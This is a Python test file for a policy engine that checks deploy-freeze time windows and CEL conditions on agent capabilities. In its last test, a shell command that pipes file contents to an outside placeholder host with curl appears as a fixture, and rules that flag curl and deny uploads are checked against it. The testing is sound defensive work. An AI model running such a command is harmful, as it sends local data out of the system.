"""Time windows (with an injectable clock) and CEL conditions."""

from datetime import datetime
from zoneinfo import ZoneInfo

import pytest

from bastion.engine import Engine
from bastion.errors import PolicyError


def at(text, tz="America/New_York"):
    return datetime.fromisoformat(text).replace(tzinfo=ZoneInfo(tz)).timestamp()


FREEZE = """
policy: freeze
defaults: allow
rules:
  - id: weekend-freeze
    match:
      capability: deploy.*
      time: {timezone: America/New_York, weekly: {from: "fri 17:00", to: "mon 09:00"}}
    effect: deny
    reason: Deploy freeze from Friday 17:00 to Monday 09:00
  - id: office-hours-prod
    match:
      capability: db.migrate
      time: {timezone: Europe/Paris, days: [mon-fri], hours: "09:00-17:00"}
    effect: require_approval
"""


@pytest.mark.parametrize(
    "when, expected",
    [
        ("2026-11-20T16:59", "allow"),  # Friday before the freeze
        ("2026-11-20T17:00", "deny"),  # Friday 17:00
        ("2026-11-21T12:00", "deny"),  # Saturday
        ("2026-11-23T08:59", "deny"),  # Monday before 09:00
        ("2026-11-23T09:00", "allow"),  # Monday 09:00
        ("2026-11-25T12:00", "allow"),  # Wednesday
    ],
)
def test_weekly_freeze_in_a_timezone(when, expected):
    clock = [at(when)]
    e = Engine.from_texts({"f.yaml": FREEZE}, clock=lambda: clock[0])
    d = e.decide({"capability": "deploy.prod"})
    assert d.decision.label == expected
    assert d.timestamp == clock[0]  # the instant used is recorded, so the decision can be replayed


def test_days_and_hours_window():
    clock = [at("2026-11-23T10:00", "Europe/Paris")]  # Monday 10:00 Paris
    e = Engine.from_texts({"f.yaml": FREEZE}, clock=lambda: clock[0])
    assert e.decide({"capability": "db.migrate"}).decision.label == "require_approval"
    clock[0] = at("2026-11-23T18:00", "Europe/Paris")
    assert e.decide({"capability": "db.migrate"}).decision.label == "allow"
    clock[0] = at("2026-11-22T10:00", "Europe/Paris")  # Sunday
    assert e.decide({"capability": "db.migrate"}).decision.label == "allow"


@pytest.mark.parametrize(
    "window, message",
    [
        ('{timezone: Mars/Olympus, days: [mon]}', "unknown timezone"),
        ('{days: [funday]}', "unknown weekday"),
        ('{hours: "25:00-26:00"}', "invalid time of day"),
        ('{weekly: {from: "fri"}}', "weekly takes"),
        ('{when: always}', "unknown time-window key"),
    ],
)
def test_bad_time_windows_are_load_errors(window, message):
    text = f"policy: t\nrules:\n  - id: r\n    match: {{time: {window}}}\n    effect: deny\n"
    with pytest.raises(PolicyError) as exc:
        Engine.from_texts({"t.yaml": text})
    assert message in str(exc.value) and exc.value.problems[0].line == 4


CEL = """
policy: cel
defaults: allow
rules:
  - id: big-export-to-external
    match: {capability: data.export}
    when: 'action.args.rows > 10000 && !action.args.destination.startsWith("s3://internal/")'
    effect: require_approval
  - id: typed
    match: {capability: weird}
    when: 'action.args.n > 5'
    effect: alert
"""


def test_cel_conditions():
    e = Engine.from_texts({"c.yaml": CEL})
    assert e.decide({"capability": "data.export", "args": {"rows": 20000, "destination": "s3://ext/x"}}).decision.label == "require_approval"
    assert e.decide({"capability": "data.export", "args": {"rows": 20000, "destination": "s3://internal/x"}}).decision.label == "allow"
    assert e.decide({"capability": "data.export", "args": {"rows": 5}}).decision.label == "allow"
    # a missing key makes the condition false, like a structured matcher
    assert e.decide({"capability": "data.export", "args": {}}).decision.label == "allow"


def test_cel_type_error_fails_closed():
    e = Engine.from_texts({"c.yaml": CEL})
    d = e.decide({"capability": "weird", "args": {"n": "not a number"}})
    assert d.decision.label == "deny" and d.error and "internal error" in d.reason


def test_cel_sees_analysis_facts_and_derived_args():
    text = """
policy: cel-facts
defaults: allow
rules:
  - id: many-programs
    match: {capability: shell.exec}
    when: 'size(facts.programs) > 2 && "curl" in facts.programs'
    effect: require_approval
  - id: derived-upload
    match: {capability: network.request}
    when: 'derived && facts.upload == true'
    effect: deny
"""
    e = Engine.from_texts({"c.yaml": text})
    d = e.decide({"capability": "shell.exec", "target": "cat a | grep b | curl -d @- https://x.example/up"})
    assert d.decision.label == "deny" and {r.rule for r in d.rules} == {"many-programs", "derived-upload"}
    assert e.decide({"capability": "shell.exec", "target": "ls | wc -l"}).decision.label == "allow"
